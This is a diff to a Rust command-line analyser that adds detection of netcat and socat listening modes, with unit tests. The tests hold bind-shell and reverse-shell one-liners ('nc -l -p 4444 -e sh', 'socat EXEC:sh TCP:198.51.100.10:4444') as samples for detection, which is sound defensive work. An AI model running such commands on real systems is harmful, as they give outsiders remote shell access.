@@ -2,7 +2,7 @@
 //!
 //! A command line is added evidence: whoever renames the program loses us only these points.
 
-use alloc::string::String;
+use alloc::string::{String, ToString as _};
 use alloc::vec::Vec;
 
 use serde::{Deserialize, Serialize};
@@ -70,6 +70,18 @@ impl RawClient {
             })
     }
 
+    /// Whether it was told to wait for calls at this port: `nc -l -p 4444`, `TCP-LISTEN:4444`.
+    pub(crate) fn listens_at(&self, port: u16) -> bool {
+        self.listens() && self.mentions(&port.to_string())
+    }
+
+    /// Whether it was told to wait for calls.
+    pub(crate) fn listens(&self) -> bool {
+        // What comes behind are another program's words.
+        let own = self.words.iter().take_while(|word| !matches!(word.as_str(), "-e" | "-c"));
+        own.into_iter().any(|word| is_flag(word, 'l') || is_listening(word))
+    }
+
     /// The first word that could be a host, for a far end that was never reached.
     pub(crate) fn target(&self) -> Option<&str> {
         let mut words = self.words.iter().skip(1).map(String::as_str);
@@ -79,6 +91,16 @@ impl RawClient {
 
 fn is_dev(word: &str) -> bool {
     word.contains("/dev/tcp/") || word.contains("/dev/udp/")
+}
+
+/// `--listen`, or an address of socat's that is waited at, in any of its spellings.
+fn is_listening(word: &str) -> bool {
+    let kind = word.split(':').next().unwrap_or_default();
+    let ends = |part: &str| {
+        let rest = kind.len().checked_sub(part.len()).and_then(|start| kind.get(start..));
+        rest.is_some_and(|rest| rest.eq_ignore_ascii_case(part))
+    };
+    word == "--listen" || ["-listen", "-l", "-recvfrom", "-recv"].into_iter().any(ends)
 }
 
 /// A short option, alone or among others (`-zv`).
@@ -118,6 +140,19 @@ mod tests {
     fn socat_names_its_far_end_behind_a_colon() {
         let client = find("socat EXEC:sh TCP:198.51.100.10:4444").unwrap();
         assert!(client.mentions("198.51.100.10") && client.mentions("4444"));
+    }
+
+    #[test]
+    fn whoever_waits_for_calls_listens() {
+        for line in
+            ["nc -l -p 4444 -e sh", "ncat -lvnp 4444", "socat TCP4-LISTEN:4444,fork EXEC:sh"]
+        {
+            let client = find(line).unwrap();
+            assert!(client.listens_at(4444) && !client.listens_at(444), "{line}");
+        }
+        for line in ["nc 198.51.100.10 4444", "socat EXEC:sh TCP:198.51.100.10:4444"] {
+            assert!(!find(line).unwrap().listens_at(4444), "{line}");
+        }
     }
 
     #[test]
